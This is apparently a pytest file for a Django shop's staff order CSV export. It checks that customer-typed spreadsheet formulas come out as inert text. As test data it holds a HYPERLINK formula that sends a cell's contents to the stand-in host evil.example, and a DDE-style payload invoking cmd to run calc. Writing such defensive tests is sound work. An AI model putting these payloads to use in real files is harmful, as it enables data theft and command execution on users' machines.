"""The staff's order CSV with what a hostile shopper can type."""

import csv
import io

import pytest

from orders import services
from tests.factories import facility_staff
from tests.orders.factories import ProductFactory, place, shop

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klik untuk konfirmasi")'


def test_a_formula_typed_as_a_name_is_text_in_the_order_csv(client):
    facility = shop(name="Lapas Uji Ekspor", city="Kendari")
    product = ProductFactory(facility=facility, name="@SUM(1+1)*cmd|' /C calc'!A0", stock=5)
    contact = services.Contact(name=NAME, phone="+6281234567890", email="")
    order = place([(product, 2)], contact=contact).orders[0]
    client.force_login(facility_staff(facility))

    response = client.post(
        "/admin/orders/order/", {"action": "export_csv", "_selected_action": [order.pk]}
    )

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["nama"] == "'" + NAME
    # "2 x ..." starts with a digit: no spreadsheet reads it as a formula.
    assert cells["produk"] == "2 x @SUM(1+1)*cmd|' /C calc'!A0"
    # Numbers stay as they were; the phone is left out (privacy: the export
    # is a work list, and the order page has the contact).
    assert cells["total"] == str(order.total)
    assert "telepon" not in cells
